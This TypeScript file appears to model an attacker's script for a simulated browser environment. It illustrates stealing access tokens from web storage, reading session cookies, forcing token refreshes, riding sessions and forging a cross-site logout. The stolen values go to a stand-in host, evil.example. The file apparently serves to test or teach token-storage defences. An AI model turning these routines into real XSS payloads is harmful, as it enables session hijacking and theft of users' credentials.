// The attacker's code: a script in the victim's page can do whatever the page's own can; a page of another site, far less.
import type { EvilEnv, LureEnv } from './env'

const collector = 'https://evil.example/c?t='

/** Takes a token that lies in the page's storage. */
export async function stealToken(page: EvilEnv) {
  const { localStorage, sessionStorage, sendOut } = page
  const key = 'access_token'
  const token = localStorage.getItem(key) ?? sessionStorage.getItem(key)
  if (token) await sendOut(collector + token)
}

/** Takes the cookie that tells who somebody is, if script may read it. */
export async function stealCookie({ document, sendOut }: EvilEnv) {
  const value = /__Host-(?:sid|at)=([^;]+)/.exec(document.cookie)?.[1]
  if (value) await sendOut(collector + value)
}

/** Nothing lies around, so it asks for a fresh token, as the page would. */
export async function askForToken({ fetch, sendOut }: EvilEnv) {
  const response = await fetch('/auth/refresh', { method: 'POST' })
  if (response.status !== 200) return
  await sendOut(collector + JSON.parse(response.body).access_token)
}

/** Takes nothing: the browser attaches the cookie to this request as to any other. */
export async function rideCookie({ fetch }: EvilEnv) {
  await fetch('/me')
}

/** Uses the token where it lies. */
export async function rideToken(page: EvilEnv) {
  const { localStorage, sessionStorage, fetch } = page
  const key = 'access_token'
  const token = localStorage.getItem(key) ?? sessionStorage.getItem(key)
  if (token) await fetch('/me', { headers: { Authorization: `Bearer ${token}` } })
}

/** Has a token renewed, and uses it at once. */
export async function rideRefresh({ fetch }: EvilEnv) {
  const response = await fetch('/auth/refresh', { method: 'POST' })
  if (response.status !== 200) return
  const token = JSON.parse(response.body).access_token
  await fetch('/me', { headers: { Authorization: `Bearer ${token}` } })
}

/** A page at evil.example: its form goes to the shop as soon as it is open. */
export async function forgeLogOut({ submit }: LureEnv, target: string) {
  await submit(target)
}
